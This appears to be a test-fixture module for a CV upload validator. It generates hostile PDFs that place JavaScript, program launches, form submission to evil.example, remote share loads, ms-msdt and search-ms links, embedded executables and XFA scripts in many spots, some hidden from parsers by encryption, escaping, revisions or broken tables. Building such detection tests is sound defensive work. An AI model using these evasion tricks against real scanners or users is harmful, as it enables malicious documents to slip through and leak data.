"""PDFs that do harm: each action at each place, and in each way to pack or hide it."""

from __future__ import annotations

import io
from collections.abc import Callable, Iterator

from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

from tests.submissions import cv_files as files
from tests.submissions import pdf_files as pdfs

SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
# Actions in PDF's own syntax, with the code of the refusal.
ACTIONS: dict[str, tuple[bytes, str]] = {
    "JavaScript": (SCRIPT, "javascript"),
    "JavaScript in a rendition": (b"<< /S /Rendition /OP 0 /JS (x) >>", "embedded"),
    "script without a kind": (b"<< /JS (app.alert\\(1\\)) >>", "javascript"),
    "kind as a text": (b"<< /S (JavaScript) /JS (x) >>", "javascript"),
    "program": (b"<< /S /Launch /F (cmd.exe) >>", "launch"),
    "program for Windows": (b"<< /S /Launch /Win << /F (calc.exe) /P (x) >> >>", "launch"),
    "form sent": (b"<< /S /SubmitForm /F (https://evil.example/) >>", "sends"),
    "form fetched": (b"<< /S /ImportData /F (//evil.example/x.fdf) >>", "sends"),
    "file on a share": (
        b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\a\\\\b.pdf) /D [0 /Fit] >>",
        "remote",
    ),
    "file on a share, slashes": (
        b"<< /S /GoToR /F (//evil.example/a/b.pdf) /D [0 /Fit] >>",
        "remote",
    ),
    "file at an address": (b"<< /S /GoToR /F (http://evil.example/a.pdf) /D [0 /Fit] >>", "remote"),
    "file as a specification": (
        b"<< /S /GoToR /F << /F (a) /UF (\\\\\\\\evil\\\\b) >> >>",
        "remote",
    ),
    "file as hexadecimal": (b"<< /S /GoToR /F <5c5c6576696c5c61> /D [0 /Fit] >>", "remote"),
    "file in UTF-16": (b"<< /S /GoToR /F <feff005c005c006500760069006c> >>", "remote"),
    "packed file on a share": (b"<< /S /GoToE /F (\\\\\\\\evil\\\\a.pdf) /D [0 /Fit] >>", "remote"),
    "thread on a share": (b"<< /S /Thread /F (//evil/a.pdf) /D 0 >>", "remote"),
    "link to a file": (b"<< /S /URI /URI (file:///C:/Windows/system32/calc.exe) >>", "link"),
    "link to a script": (b"<< /S /URI /URI (javascript:alert\\(1\\)) >>", "link"),
    "link to a script, spelled": (b"<< /S /URI /URI ( java\\tscript:alert\\(1\\)) >>", "link"),
    "link to a share": (b"<< /S /URI /URI (\\\\\\\\evil.example\\\\a) >>", "link"),
    "link to a share, slashes": (b"<< /S /URI /URI (//evil.example/a) >>", "link"),
    "link to a share, escaped": (b"<< /S /URI /URI (%5c%5cevil.example%5ca) >>", "link"),
    "link to a program of Windows": (b"<< /S /URI /URI (ms-msdt:/id PCWDiagnostic) >>", "link"),
    "link to a search": (
        b"<< /S /URI /URI (search-ms:query=x&crumb=location:\\\\\\\\e) >>",
        "link",
    ),
    "link to data": (b"<< /S /URI /URI (data:text/html,<script>x</script>) >>", "link"),
    "film": (b"<< /S /Movie /Operation /Play >>", "embedded"),
    "sound": (b"<< /S /Sound /Sound 9 0 R >>", "embedded"),
    "Flash": (b"<< /S /RichMediaExecute /CMD << /C (x) >> >>", "embedded"),
    "view in 3D": (b"<< /S /GoTo3DView /V /F >>", "embedded"),
}

CATALOG = b"<< /Type /Catalog /Pages 2 0 R %s >>"
# Where an action can be: more of the catalog, more objects from number 4 on.
PLACES: dict[str, Callable[[bytes], list[bytes]]] = {
    "opening": lambda action: [CATALOG % (b"/OpenAction " + action)],
    "opening, apart": lambda action: [CATALOG % b"/OpenAction 5 0 R", b"[]", action],
    "closing": lambda action: [CATALOG % (b"/AA << /WC %s >>" % action)],
    "names": lambda action: [
        CATALOG % (b"/Names << /JavaScript << /Names [(a) %s] >> >>" % action)
    ],
    "annotation": lambda action: [
        CATALOG % b"",
        b"[<< /Type /Annot /Subtype /Link /A %s >>]" % action,
    ],
    "annotation's events": lambda action: [
        CATALOG % b"",
        b"[<< /Type /Annot /Subtype /Widget /AA << /E %s /PV %s >> >>]" % (action, action),
    ],
    "field": lambda action: [
        CATALOG % b"/AcroForm << /Fields [5 0 R] >>",
        b"[]",
        b"<< /FT /Tx /T (a) /AA << /K << /S /Named /N /Print >> /F %s >> >>" % action,
    ],
    "next of a chain": lambda action: [
        CATALOG % b"/OpenAction 5 0 R",
        b"[]",
        b"<< /S /GoTo /D [3 0 R /Fit] /Next [<< /S /Named /N /Print /Next %s >>] >>" % action,
    ],
    "outline": lambda action: [
        CATALOG % b"/Outlines << /First 5 0 R /Last 5 0 R >>",
        b"[]",
        b"<< /Title (a) /A %s >>" % action,
    ],
}


def placed(action: bytes, place: str = "opening") -> bytes:
    objects = PLACES[place](action)
    filters, encode, more = pdfs.PACKINGS["Flate"]
    return pdfs.with_objects_in_stream(objects, filters=filters, encode=encode, more=more)


def escaped_names(action: bytes) -> bytes:
    for name in (b"JavaScript", b"Launch", b"SubmitForm", b"GoToR", b"URI", b"/JS", b"/F "):
        plain = name.strip(b"/ ")
        ending = b" " if name.endswith(b" ") else b""
        action = action.replace(b"/" + plain + ending, pdfs.escaped(plain.decode()) + ending)
    return action


def rebuilt(action: bytes) -> Pdf:
    """A document with an action on opening, for pikepdf to save in its own ways."""
    return Pdf.open(io.BytesIO(placed(action, "opening, apart")))


# How what is in plain sight can be hidden from a reader of the table.
def earlier_revision(action: bytes) -> bytes:
    first = files.pdf(action)
    return first + b"4 0 obj\nnull\nendobj\n" + files.pdf(b"null")[9:]


def beside_the_table(action: bytes) -> bytes:
    return files.pdf(before_table=b"77 0 obj\n%s\nendobj\n" % action)


def behind_the_end(action: bytes) -> bytes:
    return files.pdf(after=b"4 0 obj\n%s\nendobj\n" % action)


def in_a_trailer(action: bytes) -> bytes:
    root = b"<< /Type /Catalog /Pages 2 0 R /OpenAction %s >>" % action
    return files.pdf(after=b"trailer\n<< /Root %s >>\n" % root)


def unreadable_for_the_table(action: bytes) -> bytes:
    return files.pdf(b"<< " + b"junk " * 40 + action[2:])


def in_an_unlisted_stream(action: bytes) -> bytes:
    return files.pdf(files.packed_objects(b"9 0 " + action))


def behind_a_comment(action: bytes) -> bytes:
    return files.pdf(before_table=b"77 0%c\n obj%c\n" + action + b"\nendobj\n")


HIDDEN: dict[str, Callable[[bytes], bytes]] = {
    "earlier revision": earlier_revision,
    "beside the table": beside_the_table,
    "behind the end": behind_the_end,
    "in a second trailer": in_a_trailer,
    "in an unlisted object stream": in_an_unlisted_stream,
    "behind comments": behind_a_comment,
    "names escaped": lambda action: files.pdf(escaped_names(action)),
    "linearised": lambda action: pdfs.saved(rebuilt(action), linearize=True),
    "encrypted": lambda action: pdfs.encrypted(rebuilt(action), 6),
    "encrypted, RC4": lambda action: pdfs.encrypted(rebuilt(action), 3),
    "object streams": lambda action: pdfs.packed(rebuilt(action)),
    "cut": lambda action: pdfs.without(pdfs.plain(rebuilt(action)), b"startxref"),
    "packed and cut": lambda action: pdfs.without(pdfs.packed(rebuilt(action)), b"startxref"),
}


def hostile() -> Iterator[tuple[str, Callable[[], bytes], set[str]]]:
    """(what it is, how to make it, codes it may be refused with)."""
    for title, (action, code) in ACTIONS.items():
        yield f"{title} on opening", lambda action=action: placed(action), {code}
        yield f"{title} by a click", lambda action=action: placed(action, "annotation"), {code}
    for place in PLACES:
        for title in ("JavaScript", "form sent", "link to a file"):
            action, code = ACTIONS[title]
            codes = {code, "javascript"} if place == "names" else {code}
            yield f"{title}, {place}", lambda a=action, p=place: placed(a, p), codes
    for packing, (filters, encode, more) in pdfs.PACKINGS.items():
        for title in ("JavaScript", "program", "file on a share"):
            action, code = ACTIONS[title]
            yield (
                f"{title}, {packing}",
                lambda a=action, f=filters, e=encode, m=more: pdfs.with_objects_in_stream(
                    PLACES["annotation"](a), filters=f, encode=e, more=m
                ),
                {code},
            )
            yield (
                f"{title}, {packing}, escaped",
                lambda a=action, f=filters, e=encode, m=more: pdfs.with_objects_in_stream(
                    PLACES["opening"](escaped_names(a)), filters=f, encode=e, more=m
                ),
                {code},
            )
    for way, hide in HIDDEN.items():
        for title in ("JavaScript", "program", "form sent", "file on a share"):
            action, code = ACTIONS[title]
            yield f"{title}, {way}", lambda h=hide, a=action: h(a), {code}
    yield (
        "JavaScript behind junk",
        lambda: unreadable_for_the_table(SCRIPT),
        {"javascript", "unreadable"},
    )
    yield (
        "JavaScript behind junk in packed objects",
        lambda: placed(b"<< " + b"junk " * 40 + SCRIPT[2:], "opening, apart"),
        {"javascript", "unreadable"},
    )
    yield (
        "earlier revision, its kind apart",
        lambda: earlier_revision(b"<< /S 9 0 R /JS 8 0 R >>"),
        {"unreadable"},
    )
    for packing in (b"/BrotliDecode", b"/Unknown", b"[" + b"/FlateDecode " * 9 + b"]"):
        yield (
            f"unknown filter {packing.decode()[:15]}",
            lambda p=packing: files.pdf(
                files.pdf_stream(b"/Type /ObjStm /N 1 /First 4 /Filter " + p, b"x")
            ),
            {"unreadable"},
        )
    for title, build in PARTS.items():
        yield title, lambda b=build: pdfs.packed(b()[0]), {build()[1]}
    for version in (3, 4, 6):
        yield (
            f"password, {version}",
            lambda v=version: pdfs.encrypted(pdfs.word(), v, user="secret"),
            {"password"},
        )
    yield "certificate", lambda: files.pdf(trailer=CERTIFICATE), {"password"}


CERTIFICATE = b"/Encrypt << /Filter /Adobe.PubSec /V 4 /SubFilter /adbe.pkcs7.s5 >>"


def _annotated(annotation: Dictionary) -> Pdf:
    pdf = pdfs.blank()
    annotation.Rect = Array([0, 0, 9, 9])
    pdf.pages[0].obj.Annots = Array([annotation])
    return pdf


def _attached(name: str, content: bytes) -> Pdf:
    pdf = pdfs.blank()
    pdf.attachments[name] = content
    return pdf


def _with_xfa(xml: bytes) -> Pdf:
    pdf = pdfs.form()
    pdf.Root.AcroForm.XFA = pdf.make_stream(xml)
    return pdf


def _outside(key: str) -> Pdf:
    pdf = pdfs.blank()
    stream = pdf.make_stream(b"")
    stream[key] = String("//evil.example/a")
    pdf.pages[0].obj.Contents = stream
    return pdf


def _reference() -> Pdf:
    pdf = pdfs.canva()
    drawing: Stream = pdf.pages[0].obj.Resources.XObject.JS
    drawing.Ref = Dictionary(F=String("\\\\evil.example\\a.pdf"), Page=0)
    return pdf


def _base() -> Pdf:
    pdf = pdfs.word()
    pdf.Root.URI = Dictionary(Base=String("file://evil.example/"))
    return pdf


PROGRAM = b"MZ\x90\0" + bytes(200)
XFA = b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template>%s</template></xdp:xdp>'
PARTS: dict[str, Callable[[], tuple[Pdf, str]]] = {
    "annotation with Flash": lambda: (_annotated(Dictionary(Subtype=Name.RichMedia)), "embedded"),
    "annotation in 3D": lambda: (_annotated(Dictionary(Subtype=Name("/3D"))), "embedded"),
    "annotation with a film": lambda: (_annotated(Dictionary(Subtype=Name.Movie)), "embedded"),
    "annotation with a sound": lambda: (_annotated(Dictionary(Subtype=Name.Sound)), "embedded"),
    "annotation with a screen": lambda: (_annotated(Dictionary(Subtype=Name.Screen)), "embedded"),
    "program attached": lambda: (_attached("a.exe", PROGRAM), "embedded"),
    "program attached as XML": lambda: (_attached("a.xml", PROGRAM), "embedded"),
    "program attached as a CV": lambda: (_attached("a.pdf", PROGRAM), "embedded"),
    "macros attached": lambda: (_attached("a.docm", files.docx()), "embedded"),
    "script attached": lambda: (_attached("a.js", b"alert(1)"), "embedded"),
    "page attached": lambda: (_attached("a.html", b"<script>x</script>"), "embedded"),
    "page attached as XML": lambda: (
        _attached("a.xml", b'<a><b xmlns="http://www.w3.org/1999/xhtml"><script/></b></a>'),
        "embedded",
    ),
    "hostile PDF attached": lambda: (_attached("a.pdf", files.pdf(SCRIPT)), "embedded"),
    "PDF in a PDF in a PDF": lambda: (
        _attached("a.pdf", pdfs.plain(_attached("a.pdf", files.pdf()))),
        "embedded",
    ),
    "shortcut attached": lambda: (_attached("a.SettingContent-ms", b"<a/>"), "embedded"),
    "no name": lambda: (_attached("noname", b"x"), "embedded"),
    "XFA with a script": lambda: (
        _with_xfa(XFA % b"<event activity='initialize'><script>x</script></event>"),
        "javascript",
    ),
    "XFA that sends": lambda: (
        _with_xfa(XFA % b"<event><submit target='x'/></event>"),
        "javascript",
    ),
    "XFA with a connection": lambda: (
        _with_xfa(b"<a><connectionSet><xmlConnection/></connectionSet></a>"),
        "javascript",
    ),
    "XFA in UTF-16": lambda: (
        _with_xfa("<a><script>x</script></a>".encode("utf-16")),
        "javascript",
    ),
    "XFA with entities": lambda: (
        _with_xfa(b'<!DOCTYPE a [<!ENTITY s "x">]><a>&s;</a>'),
        "unreadable",
    ),
    "XFA with a picture from a share": lambda: (
        _with_xfa(XFA % b"<image href='\\\\evil.example\\a.png'/>"),
        "remote",
    ),
    "XFA that is no XML": lambda: (_with_xfa(b"<a"), "unreadable"),
    "page in another file": lambda: (_outside("/F"), "remote"),
    "drawing in another file": lambda: (_reference(), "remote"),
    "links relative to a share": lambda: (_base(), "link"),
}
